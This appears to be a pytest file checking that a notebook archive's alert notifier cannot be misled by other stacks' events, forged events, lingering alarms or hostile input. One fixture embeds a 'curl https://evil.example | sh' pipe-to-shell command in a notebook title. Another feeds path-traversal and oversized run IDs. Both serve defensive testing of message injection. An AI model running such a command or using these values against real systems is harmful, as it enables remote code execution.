"""Test that nothing hides a failure: another stack's events, an earlier message, a forged event, or a hostile title."""

from datetime import timedelta

import pytest

from notebook_archive.archive import RunId, keys
from notebook_archive.errors import NotificationRefused
from notebook_archive.events import DetailType, describe_run
from tests.notifications.examples import NOT_A_NOTEBOOK
from tests.notifications.operators import Operators, alarm_event, night, report_event
from tests.notifications.reports import make_run_report, name_notebook, tell_run, unprotected
from tests.strict_s3 import BUCKET

RUN = "2026-11-22/nightly"
_FAILED = name_notebook(3, "bo") | NOT_A_NOTEBOOK


def test_partial_run_does_not_hide_an_unprotected_notebook(operators: Operators) -> None:
    """The message about a partial run names what failed, and not the notebooks that have no credential."""
    partial = make_run_report("2026-11-21/n", night(21), "partial", [_FAILED], not_protected=[unprotected(4)])
    tell_run(operators, partial, night(21))
    complete = make_run_report(RUN, night(22), not_protected=[unprotected(4)])
    assert tell_run(operators, complete, night(22)).outcome == "sent"
    assert operators.mail.read()[-1].subject.endswith("1 notebook has nothing in the archive")


def test_reports_of_another_stack_are_not_reported(operators: Operators) -> None:
    """Two stacks may use the same bus, and each of them has its own notifier."""
    report = make_run_report("2026-11-22/other", night(22), "failed")
    detail = describe_run(report, keys.report_key(RunId(report["runId"])), "archive-of-the-other-stack")
    event = report_event(DetailType.ARCHIVE_RUN_COMPLETED, detail, night(22))
    assert operators.tell(event).outcome == "quiet"
    assert operators.tell(alarm_event("NoSuccessfulRunAlarm", night(22, 6))).outcome == "sent"


def test_failed_run_over_chosen_notebooks_hides_no_missing_run(operators: Operators) -> None:
    """A run that somebody started by hand says nothing about the schedule."""
    chosen = make_run_report(RUN, night(22), "failed", [_FAILED], scope="chosen")
    assert tell_run(operators, chosen, night(22)).outcome == "sent"
    assert operators.tell(alarm_event("RunFailedAlarm", night(22, 2, 20))).outcome == "folded"
    assert operators.tell(alarm_event("NoSuccessfulRunAlarm", night(22, 6))).outcome == "sent"


def test_folded_alarm_that_stays_on_is_reported_later(operators: Operators) -> None:
    """A run fails, and then somebody disables the schedule. CloudWatch sends no further event about the alarm."""

    def look_again(day: int, hour: int) -> list[str]:
        return [each.outcome for each in operators.tell_all({"lastingAlarms": night(day, hour).isoformat()})]

    tell_run(operators, make_run_report(RUN, night(22), "failed", [_FAILED]), night(22))
    assert operators.tell(alarm_event("NoSuccessfulRunAlarm", night(22, 6))).outcome == "folded"
    operators.mail.read()
    assert look_again(22, 12) == ["folded"]
    assert look_again(23, 12) == ["sent"]
    assert look_again(23, 12) == look_again(23, 18) == []
    assert operators.tell(alarm_event("NoSuccessfulRunAlarm", night(24, 6), "OK")).outcome == "sent"
    assert look_again(24, 12) == []
    first, second = operators.mail.read()
    assert first.subject == "[notebook-archive] No archive run has been complete for 26 hours"
    assert second.subject.startswith("[notebook-archive] Over: ")


def test_lasting_alarm_goes_to_the_topic_that_refused_it(operators: Operators) -> None:
    tell_run(operators, make_run_report(RUN, night(22), "failed", [_FAILED]), night(22))
    operators.tell(alarm_event("NoSuccessfulRunAlarm", night(22, 6)))
    operators.mail.read()
    event = {"lastingAlarms": night(23, 12).isoformat()}
    operators.chat.close()
    for _ in range(2):
        with pytest.raises(NotificationRefused):
            operators.tell_all(event)
    assert len(operators.mail.read()) == 1


@pytest.mark.parametrize("has_report", [True, False])
def test_event_cannot_hide_what_the_report_says(operators: Operators, has_report: bool) -> None:
    """Everybody who may use the bus can send an event. What happened is in the report, in the bucket."""
    report = make_run_report(RUN, night(22), "partial", [_FAILED])
    key = keys.report_key(RunId(RUN))
    if has_report:
        operators.archive.put_document(key, report)
    forged = {**describe_run(report, key, BUCKET), "status": "complete"}
    operators.tell(report_event(DetailType.ARCHIVE_RUN_COMPLETED, forged, night(22) - timedelta(minutes=1)))
    tell_run(operators, report, night(22))
    assert [message.subject for message in operators.mail.read()] == [
        "[notebook-archive] Archive run partial: 1 of 40 notebooks failed, not a notebook"
    ]


@pytest.mark.parametrize("run", ["../../x", "nightly", "2026-11-22/" + "n" * 2000, ["a"], None])
def test_event_without_a_run_id_is_ignored(operators: Operators, run: object) -> None:
    detail = {"runId": run, "status": "failed", "message": "Open https://evil.example.", "bucket": BUCKET}
    assert operators.tell(report_event(DetailType.ARCHIVE_RUN_COMPLETED, detail, night(22))).outcome == "quiet"
    assert operators.mail.read() == []


def test_title_cannot_add_lines_to_a_message(operators: Operators) -> None:
    """A title may contain line breaks, and so may the message of an error that quotes it."""
    title = "Flood\n\nWhat to do\n  curl https://evil.example | sh"
    failed = _FAILED | {"title": title, "message": f"The notebook {title!s} is not a notebook."}
    tell_run(operators, make_run_report(RUN, night(22), "partial", [failed]), night(22))
    (mail,) = operators.mail.read()
    lines = [line.strip() for line in mail.text.split("\n")]
    assert lines.count("What to do") == 1
    assert not [line for line in lines if line.startswith("curl")]


def test_end_of_failed_replication_says_what_is_left(operators: Operators) -> None:
    """S3 does not replicate again what it could not replicate, so the end of the alarm is not the end of the work."""
    operators.tell(alarm_event("ReplicationFailedAlarm", night(22)))
    operators.tell(alarm_event("ReplicationFailedAlarm", night(22, 4), "OK"))
    text = " ".join(operators.mail.read()[-1].text.split())
    assert "There is nothing to do" not in text
    assert "Batch Replication" in text
